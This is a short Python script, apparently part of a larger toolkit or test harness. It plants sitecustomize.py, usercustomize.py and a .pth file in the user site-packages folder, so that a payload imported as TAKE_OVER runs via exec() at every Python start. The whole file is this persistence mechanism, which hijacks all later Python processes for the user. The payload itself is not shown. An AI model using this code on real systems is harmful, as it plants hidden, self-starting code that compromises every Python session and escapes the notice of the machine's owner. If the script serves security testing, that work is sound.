"""Writes `sitecustomize`, `usercustomize` and a `.pth` into the folder in HOME that Python reads at every start."""

import site
from pathlib import Path

from common import TAKE_OVER, write

folder = Path(site.getusersitepackages())
for name in ("sitecustomize.py", "usercustomize.py"):
    write(folder / name, TAKE_OVER)
write(folder / "paths.pth", f"import sys; exec({TAKE_OVER!r}, {{}})\n")
